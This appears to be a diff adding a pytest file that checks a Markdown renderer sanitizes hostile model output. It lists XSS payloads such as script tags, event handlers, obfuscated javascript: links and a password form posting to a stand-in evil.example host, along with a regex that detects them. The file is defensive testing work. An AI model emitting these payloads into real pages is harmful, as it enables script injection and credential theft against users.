@@ -1,0 +1,113 @@
+"""Markdown rendering and its sanitizer, against hostile model output."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from app.web.markdown import render_markdown, safe_url
+from tests.web.support import HX
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '<img src=x onerror="alert(1)">',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](  javascript:alert(1))",
+    '<a href="java&#x09;script:alert(1)">tab</a>',
+    '<a href="&#106;avascript:alert(1)">entity</a>',
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
+    '<iframe src="https://evil.example"></iframe>',
+    "<style>body { display: none }</style>",
+    '<div style="position:fixed;inset:0">overlay</div>',
+    '<svg onload="alert(1)"><circle/></svg>',
+    '<a href="https://ok.example" onclick="steal()" onmouseover="steal()">hover</a>',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<object data="evil.swf"></object><embed src="evil.swf">',
+    '<p onclick="x()">para</p>',
+    "<!-- <script>alert(1)</script> -->",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '[ref][1]\n\n[1]: javascript:alert(1) "title"',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+]
+FORBIDDEN = re.compile(
+    r"<script|<style|<iframe|<svg|<object|<embed|<form|<input|<img|<base|<meta|\son\w+=|style=|javascript:|vbscript:|data:",
+    re.I,
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_is_defused(text):
+    html = str(render_markdown(text))
+    assert not FORBIDDEN.search(html), html
+
+
+def test_links_keep_web_schemes_and_get_rel():
+    html = str(render_markdown("[docs](https://example.com/a) [mail](mailto:t@example.com) [rel](/admin)"))
+    assert '<a href="https://example.com/a" rel="noopener nofollow">docs</a>' in html
+    assert '<a href="mailto:t@example.com" rel="noopener nofollow">mail</a>' in html
+    assert 'href="/admin"' not in html and ">rel</a>" in html
+
+
+def test_allowed_markdown_survives():
+    text = (
+        "## Heading\n\nSome *em* and **strong** and `code`.\n\n- a\n- b\n\nThen:\n1. one\n\n"
+        "> quoted\n\n---\n\n"
+        "```python\nprint('<hi>')\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"
+    )
+    html = str(render_markdown(text))
+    for fragment in (
+        "<h2>Heading</h2>",
+        "<em>em</em>",
+        "<strong>strong</strong>",
+        "<code>code</code>",
+        "<ul>",
+        "<ol>",
+        "<blockquote>",
+        "<hr>",
+        "<pre><code>print('&lt;hi&gt;')",
+        "<table>",
+        '<th align="left">a</th>',
+        '<td align="right">2</td>',
+    ):
+        assert fragment in html, fragment
+
+
+def test_lists_right_after_a_line_render_as_lists():
+    html = str(render_markdown("Steps:\n- first\n- second\n\n```\nnot:\n- a list\n```"))
+    assert "<p>Steps:</p>\n<ul>\n<li>first</li>" in html
+    assert "<pre><code>not:\n- a list" in html
+
+
+def test_safe_url():
+    assert safe_url("https://example.com/x") == "https://example.com/x"
+    assert safe_url(" http://example.com ") == "http://example.com"
+    for bad in (
+        None,
+        "",
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "/relative",
+        "//evil.example",
+        "https://",
+    ):
+        assert safe_url(bad) is None
+
+
+def test_hostile_model_answer_is_sanitized_in_the_page(claude_app, fake_claude):
+    client = claude_app.test_client()
+    fake_claude.enqueue_text(
+        "Here: <script>alert('x')</script>[link](javascript:alert(1)) <img src=x onerror=alert(1)>"
+    )
+    fragment = client.post("/ask", data={"question": "Be evil"}, headers=HX).get_data(as_text=True)
+    client.post("/ask", data={"question": "Be evil again"})
+    page = client.get("/").get_data(as_text=True)
+    for html in (fragment, page):
+        assert "alert" not in html
+        assert "onerror" not in html and "javascript:" not in html
+    assert "<p>Here: <a" in fragment
